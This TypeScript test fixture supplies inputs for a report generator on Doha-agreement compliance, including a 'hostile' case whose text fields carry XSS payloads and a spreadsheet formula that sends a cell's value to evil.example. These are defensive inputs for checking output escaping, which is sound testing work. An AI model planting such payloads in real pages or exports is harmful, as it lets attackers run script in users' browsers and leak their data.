// Shared inputs of the report tests: the bundled case, and a small case whose texts are hostile.
import { fileURLToPath } from 'node:url';
import { readCase } from '../../src/case/read.js';
import type { CaseFile } from '../../src/case/schema.js';
import { miniCase } from '../helpers/mini-case.js';

export const BUNDLED_DIR = fileURLToPath(new URL('../../cases/afghanistan-doha/', import.meta.url));
export const AS_OF = '2023-01-01';

let bundled: Promise<CaseFile> | null = null;
export function bundledCase(): Promise<CaseFile> {
  bundled ??= readCase(BUNDLED_DIR).then((r) => {
    if (!r.ok) throw new Error(`the bundled case does not load: ${JSON.stringify(r.problems.slice(0, 3))}`);
    return r.value;
  });
  return bundled;
}

export const SCRIPT = '<script>alert("x")</script>';
export const IMG = '"><img src=x onerror=alert(1)>';
export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

/** Every free text of the case carries markup that must come out as text. */
export function hostileCase(marking = 'TLP:AMBER'): CaseFile {
  return miniCase({
    case: { id: 'hostile', title: `Title ${SCRIPT}`, subject: 'taliban', marking, summary: `Summary ${IMG}`, period: { start: '2020-02-29' } },
    actors: [
      { id: 'taliban', kind: 'armed_group', name: `Taliban ${IMG}` },
      { id: 'united-states', kind: 'state', name: `United States ${SCRIPT}`, country: 'US' },
      { id: 'a-minister', kind: 'person', name: 'A Minister', sanctions_refs: ['TAi.999'] },
    ],
    sources: [
      { id: 'doha', kind: 'agreement', title: `Agreement ${SCRIPT}`, publisher: `Pub ${IMG}`, date: '2020-02-29', reliability: 'A', url: 'https://example.org/a?x="><script>' },
      { id: 'report', kind: 'report', title: 'A report', date: '2021-06', reliability: 'B', reference: `S/2021/${IMG}` },
    ],
    commitments: [{ id: 'ct-soil', by: 'taliban', source: 'doha', ref: `Part ${IMG}`, made: '2020-02-29', category: 'counterterrorism', kind: 'prohibition', text: `no use of soil ${SCRIPT}` }],
    evidence: [
      { id: 'ev-1', source: 'report', observed: { from: '2020-05-01', to: '2021-04-30' }, credibility: 2, summary: `ties persist ${IMG} | # [x](javascript:alert(1))`, bears_on: [{ target: 'ct-soil', stance: 'contradicts', strength: 'strong' }], 'x-analyst': 'kb' },
      { id: 'ev-2', source: 'doha', observed: { from: '2020-02-29' }, credibility: 1, summary: FORMULA, bears_on: [{ target: 'ct-soil', stance: 'context' }] },
      { id: 'ev-3', source: 'report', observed: { from: '2021-05-01' }, location: { country: 'AF', admin1: '@Ghazni' }, credibility: 3, summary: '+1 then -2, then\ttab\rand CR', bears_on: [{ target: 'ct-soil', stance: 'contradicts', strength: 'weak' }] },
      { id: 'ev-4', source: 'report', observed: { from: '2021-05-02' }, credibility: 2, summary: "'already quoted", bears_on: [{ target: 'ct-soil', stance: 'contradicts' }], retracted: { date: '2022-01-01', reason: '-withdrawn by the source' } },
    ],
    claims: [{ id: 'claim-1', by: 'united-states', made: '2021-07-01', source: 'doha', text: `a break ${SCRIPT}`, asserts: { target: 'ct-soil', status: 'kept' } }],
  });
}
